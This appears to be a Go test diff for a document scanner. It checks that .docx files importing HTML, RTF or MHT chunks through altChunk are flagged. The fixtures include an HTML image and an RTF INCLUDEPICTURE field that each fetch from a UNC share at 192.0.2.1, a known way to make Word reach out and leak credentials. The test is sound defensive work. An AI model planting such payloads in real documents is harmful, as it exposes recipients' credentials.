@@ -229,3 +229,48 @@ func BenchmarkClassifyDocx(b *testing.B) {
 		deflate("word/stylesWithEffects.xml", styles.Bytes()), stored("word/media/image1.png", pngImage(b)))
 	benchClassify(b, data, "", "a.docx", ClassOffice)
 }
+
+// docRels is word/_rels/document.xml.rels holding rels.
+func docRels(rels string) zent {
+	return deflate("word/_rels/document.xml.rels", []byte(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rels+`</Relationships>`))
+}
+
+// TestOOXMLImportedChunks: a Word document that imports a chunk in
+// another format (w:altChunk: HTML, MHT, RTF) is not inspected, as Word
+// converts the chunk as the document opens, fetching an HTML chunk's
+// pictures from where they say and keeping an RTF chunk's fields. Before,
+// a .docx whose HTML chunk drew a picture from a share, or whose RTF
+// chunk held an INCLUDEPICTURE field to one, had no finding (red team).
+func TestOOXMLImportedChunks(t *testing.T) {
+	const (
+		chunkRel = `<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk" Target="afchunk.htm"/>`
+		body     = `<w:p><w:r><w:t>案内</w:t></w:r></w:p><w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId9"/>`
+		html     = `<html><body><p>案内</p><img src="\\192.0.2.1\s\a.png"></body></html>`
+		rtf      = `{\rtf1\ansi {\field{\*\fldinst INCLUDEPICTURE "\\\\192.0.2.1\\s\\a.png" \\d}{\fldrslt x}}}`
+	)
+	types := func(ext, ct string) zent {
+		return contentTypes(`<Default Extension="xml" ContentType="application/xml"/><Default Extension="` + ext + `" ContentType="` + ct + `"/>` + override("/word/document.xml", ctWordMain))
+	}
+	cases := []classifyCase{
+		{name: "HTML chunk drawing a picture from a share", filename: "a.docx",
+			data: zipFile(t, types("htm", "text/html"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", body),
+				docRels(chunkRel), deflate("word/afchunk.htm", []byte(html))),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLAltChunk + " in word/_rels/document.xml.rels", OOXMLAltChunk + " word/afchunk.htm"}},
+		{name: "RTF chunk with INCLUDEPICTURE, strict relationship type", filename: "a.docx",
+			data: zipFile(t, types("rtf", "application/rtf"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", body),
+				docRels(strings.NewReplacer("http://schemas.openxmlformats.org/officeDocument/2006/relationships/", "http://purl.oclc.org/ooxml/officeDocument/relationships/", "afchunk.htm", "c.rtf").Replace(chunkRel)),
+				deflate("word/c.rtf", []byte(rtf))),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLAltChunk + " in word/_rels/document.xml.rels", OOXMLAltChunk + " word/c.rtf"}},
+		{name: "MHT chunk under another relationship type", filename: "a.docx",
+			data: zipFile(t, types("dat", "message/rfc822"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", body),
+				docRels(strings.Replace(strings.Replace(chunkRel, "aFChunk", "image", 1), "afchunk.htm", "c.dat", 1)),
+				deflate("word/c.dat", []byte("MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"+html))),
+			class: ClassOffice, sniffed: mimeDocx, findings: []string{OOXMLAltChunk + " word/c.dat"}},
+		{name: "clean, a picture and a web link", filename: "a.docx",
+			data: zipFile(t, types("png", "image/png"), rootRels(mainRel("word/document.xml")), wordPart("word/document.xml", `<w:p><w:r><w:t>案内</w:t></w:r></w:p>`),
+				docRels(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/a.png"/>`),
+				deflate("word/media/a.png", pngImage(t))),
+			class: ClassOffice, sniffed: mimeDocx, clean: true},
+	}
+	runClassify(t, cases)
+}
